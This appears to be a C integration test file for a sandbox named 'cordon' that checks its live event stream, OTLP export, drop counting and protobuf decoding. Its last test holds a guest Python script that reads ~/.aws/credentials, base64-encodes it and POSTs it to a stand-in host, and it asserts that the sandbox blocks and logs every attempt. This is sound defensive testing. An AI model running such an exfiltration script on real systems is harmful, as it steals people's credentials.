/* The event stream while the guest runs: a reader of --events - and an
 * OTLP/HTTP receiver on loopback see the guest's exec and a denial before
 * the guest (waiting on its stdin) exits; the JSON decodes with the
 * OpenTelemetry protobuf definitions; a collector that is down neither
 * slows the guest nor loses events silently; and the exfiltration replay. */
#include "tests/integration/harness.h"

#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

TestSuite(events_live, .timeout = 240);

#define NAMED(ev) "{\"key\":\"event.name\",\"value\":{\"stringValue\":\"" ev "\"}}"
#define LS_EXEC "{\"stringValue\":\"/usr/bin/ls\"}"
/* pivot_root (155) is denied: one policy event */
#define DENY "python3 -c 'import ctypes; ctypes.CDLL(None).syscall(155, 0, 0)'"

static double now(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

/* Starts `cordon run OPTS -- /bin/sh -c SCRIPT` with stdin and stdout on
 * pipes (stderr inherited); returns its pid. */
static pid_t start_cordon(const char *const opts[], const char *script, int *in_w, int *out_r)
{
    int in[2], out[2];
    cr_assert(pipe2(in, O_CLOEXEC) == 0 && pipe2(out, O_CLOEXEC) == 0);
    const char *argv[32];
    int n = 0;
    argv[n++] = cordon_path();
    argv[n++] = "run";
    if (platform_under_test()) {
        argv[n++] = "--platform";
        argv[n++] = platform_under_test();
    }
    for (; *opts; opts++)
        argv[n++] = *opts;
    argv[n++] = "--";
    argv[n++] = "/bin/sh";
    argv[n++] = "-c";
    argv[n++] = script;
    argv[n] = NULL;
    pid_t pid = fork();
    cr_assert(pid >= 0);
    if (pid == 0) {
        dup2(in[0], 0);
        dup2(out[1], 1);
        execv(argv[0], (char *const *)argv);
        _exit(127);
    }
    close(in[0]);
    close(out[1]);
    *in_w = in[1];
    *out_r = out[0];
    return pid;
}

/* Appends what fd has to *buf until every needle is in it, EOF or the
 * deadline; true when all were seen. */
static bool read_until(int fd, char **buf, size_t *len, const char *const needles[], double secs)
{
    double end = now() + secs;
    for (;;) {
        bool all = *buf != NULL;
        for (const char *const *n = needles; all && *n; n++)
            all = strstr(*buf, *n) != NULL;
        if (all)
            return true;
        struct pollfd p = { .fd = fd, .events = POLLIN };
        int left = (int)((end - now()) * 1000);
        if (left <= 0 || poll(&p, 1, left) <= 0)
            return false;
        char chunk[65536];
        ssize_t got = read(fd, chunk, sizeof chunk);
        if (got <= 0)
            return false;
        *buf = realloc(*buf, *len + (size_t)got + 1);
        memcpy(*buf + *len, chunk, (size_t)got);
        *len += (size_t)got;
        (*buf)[*len] = '\0';
    }
}

/* Polls a file until it holds every needle or the deadline passes. */
static char *file_until(const char *path, const char *const needles[], double secs)
{
    double end = now() + secs;
    for (;;) {
        FILE *f = fopen(path, "r");
        char *text = NULL;
        size_t cap = 0;
        if (f) {
            if (getdelim(&text, &cap, '\0', f) < 0) {
                free(text);
                text = NULL;
            }
            fclose(f);
        }
        bool all = text != NULL;
        for (const char *const *n = needles; all && *n; n++)
            all = strstr(text, *n) != NULL;
        if (all || now() > end)
            return text;
        free(text);
        usleep(20000);
    }
}

static int finish(pid_t pid, int in_w)
{
    if (write(in_w, "go\n", 3) != 3)
        cr_log_warn("guest stdin closed early");
    close(in_w);
    int st;
    cr_assert(waitpid(pid, &st, 0) == pid);
    return WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
}

static const char WAITING_GUEST[] = "ls / >/dev/null; " DENY "; read line; test \"$line\" = go";

Test(events_live, stdout_stream_shows_exec_and_denial_while_the_guest_runs)
{
    int in_w, out_r;
    pid_t pid = start_cordon(ARGV("--events", "-"), WAITING_GUEST, &in_w, &out_r);
    char *buf = NULL;
    size_t len = 0;
    bool seen = read_until(out_r, &buf, &len, ARGV(LS_EXEC, NAMED("policy.denied")), 30);
    /* the guest is blocked in `read` until we write: it cannot have exited */
    bool running = waitpid(pid, NULL, WNOHANG) == 0;
    int status = finish(pid, in_w);
    read_until(out_r, &buf, &len, ARGV("never there"), 5);
    close(out_r);
    cr_assert(seen, "exec and denial not streamed while the guest ran:\n%.4000s", buf ? buf : "");
    cr_assert(running, "cordon exited before the guest was released");
    cr_assert_eq(status, 0, "guest status %d", status);
    cr_assert(strstr(buf, NAMED("process.exit")), "no exit after release:\n%.4000s", buf);
    free(buf);
}

/* The receiver's port, and its pid in *pid; records go to `file`. */
static int start_receiver(const char *file, pid_t *pid)
{
    int out[2];
    cr_assert(pipe2(out, O_CLOEXEC) == 0);
    *pid = fork();
    cr_assert(*pid >= 0);
    if (*pid == 0) {
        dup2(out[1], 1);
        execlp("python3", "python3", "tests/integration/otlp_receiver.py", file, (char *)NULL);
        _exit(127);
    }
    close(out[1]);
    char *buf = NULL;
    size_t len = 0;
    read_until(out[0], &buf, &len, ARGV("\n"), 20);
    close(out[0]);
    int port = buf ? atoi(buf) : 0;
    free(buf);
    cr_assert(port > 0, "the python3 OTLP receiver did not start");
    return port;
}

Test(events_live, otlp_http_receiver_gets_events_live)
{
    char tag[17], file[128], url[64];
    random_tag(tag);
    snprintf(file, sizeof file, "/tmp/cordon-otlp-%s.txt", tag);
    pid_t rpid;
    snprintf(url, sizeof url, "http://127.0.0.1:%d", start_receiver(file, &rpid));
    int in_w, out_r;
    pid_t pid = start_cordon(ARGV("--otlp-endpoint", url), WAITING_GUEST, &in_w, &out_r);
    char *got = file_until(file, ARGV("/v1/logs {\"resourceLogs\":", LS_EXEC, NAMED("policy.denied")), 30);
    bool running = waitpid(pid, NULL, WNOHANG) == 0;
    int status = finish(pid, in_w);
    close(out_r);
    kill(rpid, SIGTERM);
    waitpid(rpid, NULL, 0);
    unlink(file);
    cr_assert(got && strstr(got, LS_EXEC) && strstr(got, NAMED("policy.denied")),
              "the receiver did not get exec and denial live:\n%.4000s", got ? got : "");
    cr_assert(strstr(got, "{\"key\":\"session.id\""), "no session.id");
    cr_assert(running, "cordon exited before the guest was released");
    cr_assert_eq(status, 0);
    free(got);
}

/* 2000 denied calls timed inside the guest, in microseconds. */
#define TIMED_DENIALS                                                                       \
    "python3 -c 'import ctypes, time; s = ctypes.CDLL(None).syscall; t = time.perf_counter(); " \
    "[s(155, 0, 0) for _ in range(2000)]; print(int((time.perf_counter() - t) * 1e6))'"

static long timed_run(const char *const opts[], struct run *r)
{
    struct run_opts o = { .cordon_opts = opts };
    run_sh(r, &o, TIMED_DENIALS);
    assert_status(r, 0);
    return atol(r->out);
}

static unsigned long long summary_number(const struct run *r, const char *label)
{
    const char *p = strstr(r->err, label);
    cr_assert(p, "summary lacks \"%s\"" RUN_CONTEXT, label, RUN_CONTEXT_ARGS(r));
    return strtoull(p + strlen(label), NULL, 10);
}

Test(events_live, collector_down_does_not_slow_the_guest_and_drops_are_counted)
{
    int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    struct sockaddr_in a = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
    socklen_t al = sizeof a;
    cr_assert(bind(s, (struct sockaddr *)&a, sizeof a) == 0 &&
              getsockname(s, (struct sockaddr *)&a, &al) == 0);
    close(s);   /* nothing listens there now: connections are refused */
    char url[64];
    snprintf(url, sizeof url, "http://127.0.0.1:%d", ntohs(a.sin_port));

    /* the best of three alternating runs each: this machine is shared, and
     * a run's time is noise plus cost, of which the minimum keeps the cost */
    RUN(off);
    RUN(down);
    long t_off = -1, t_down = -1;
    for (int k = 0; k < 3; k++) {
        run_free(&off);
        run_free(&down);
        long t1 = timed_run(ARGV("--summary"), &off);   /* events on, no sink to wait for */
        long t2 = timed_run(ARGV("--otlp-endpoint", url, "--summary"), &down);
        t_off = t_off < 0 || t1 < t_off ? t1 : t_off;
        t_down = t_down < 0 || t2 < t_down ? t2 : t_down;
    }
    cr_log_info("2000 denied calls, best of 3: %ld us with no collector, %ld us with it down",
                t_off, t_down);
    /* On the ptrace platform every denied call is a round trip through the
     * tracer, which costs ~8 or ~90 us depending on whether it wakes an idle
     * vCPU (README, Benchmarks): one more sleeping thread flips runs between
     * the two, 4x apart, so only the seccomp platform's time is held to a
     * bound; ptrace's is logged. */
    const char *plat = platform_under_test();
    if (!plat || strcmp(plat, "ptrace"))
        cr_expect(t_down <= 2 * t_off + 30000, "guest slowed: %ld us against %ld us", t_down, t_off);
    unsigned long long total = summary_number(&down, "  events     ");
    unsigned long long dropped = summary_number(&down, "  dropped    ");
    cr_expect(total >= 2000, "events counted: %llu", total);
    cr_expect(dropped >= total, "dropped %llu of %llu" RUN_CONTEXT, dropped, total,
              RUN_CONTEXT_ARGS(&down));
    assert_contains(&down, err, "; 0 delivered)");
    /* the session's end waits at most the 1 s grace for the collector */
    cr_expect(down.secs < off.secs + 3, "teardown took %.1f s", down.secs);
}

Test(events_live, json_decodes_with_the_opentelemetry_protobuf_definitions)
{
    const char *prefix = "build/npm-otlp";
    RUN(have);
    run_cmd(&have, NULL, ARGV("sh", "-c", "command -v node && command -v npm"));
    if (have.status != 0)
        cr_skip_test("node and npm are needed to decode with the OTLP protobuf definitions");
    if (access("build/npm-otlp/node_modules/@opentelemetry/otlp-transformer/build/src/generated/root.js",
               R_OK) != 0) {
        /* 0.52.x is the last otlp-transformer that ships the protobufjs
         * module generated from opentelemetry-proto */
        RUN(inst);
        struct run_opts io = { .timeout_s = 200 };
        run_cmd(&inst, &io, ARGV("npm", "install", "--prefix", prefix, "--no-audit", "--no-fund",
                                 "--silent", "protobufjs@7", "@opentelemetry/otlp-transformer@0.52.1"));
        if (inst.status != 0)
            cr_skip_test("npm install of protobufjs and @opentelemetry/otlp-transformer failed "
                         "(registry unreachable?): %.300s", inst.err);
    }
    char tag[17], path[128];
    random_tag(tag);
    snprintf(path, sizeof path, "/tmp/cordon-events-%s.ndjson", tag);
    RUN(r);
    struct run_opts o = { .cordon_opts = ARGV("--events", path, "--canary", "~/.aws/credentials") };
    run_sh(&r, &o, "cat .aws/credentials >/dev/null; echo x > /tmp/f; rm /tmp/f; " DENY);
    assert_status(&r, 0);
    RUN(dec);
    run_cmd(&dec, NULL, ARGV("node", "tests/integration/otlp_check.js", prefix, path));
    unlink(path);
    assert_status(&dec, 0);
    assert_contains(&dec, out, "decoded ");
    /* the severities as numbers and text: INFO, WARN (denial), FATAL (canary) */
    assert_contains(&dec, out, "13:WARN 21:FATAL 9:INFO");
}

/* A guest told to read ~/.aws/credentials, base64 it and POST it out, 25
 * times: every attempt must fail and every read be in the stream. */
Test(events_live, exfiltration_replay_is_stopped_and_visible)
{
    char tag[17], path[128];
    random_tag(tag);
    snprintf(path, sizeof path, "/tmp/cordon-events-%s.ndjson", tag);
    RUN(r);
    struct run_opts o = { .cordon_opts = ARGV("--events", path, "--canary", "~/.aws/credentials") };
    run_guest(&r, &o, ARGV("python3", "-c",
        "import base64, urllib.request\n"
        "stopped = 0\n"
        "for i in range(25):\n"
        "    data = base64.b64encode(open('/home/user/.aws/credentials', 'rb').read())\n"
        "    req = urllib.request.Request('http://198.51.100.7/upload', data=data, method='POST')\n"
        "    try:\n"
        "        urllib.request.urlopen(req, timeout=5)\n"
        "        print('SENT', i)\n"
        "    except Exception as e:\n"
        "        stopped += 1\n"
        "        last = e\n"
        "print('stopped', stopped, 'of 25:', last)\n"));
    assert_status(&r, 0);
    assert_lacks(&r, out, "SENT");
    assert_contains(&r, out, "stopped 25 of 25");
    FILE *f = fopen(path, "r");
    cr_assert(f);
    char *ev = NULL;
    size_t cap = 0;
    cr_assert(getdelim(&ev, &cap, '\0', f) > 0);
    fclose(f);
    unlink(path);
    int reads = 0;
    for (const char *p = ev; (p = strstr(p, NAMED("canary.read"))); p++)
        reads++;
    cr_expect_eq(reads, 25, "canary reads in the stream: %d", reads);
    free(ev);
}
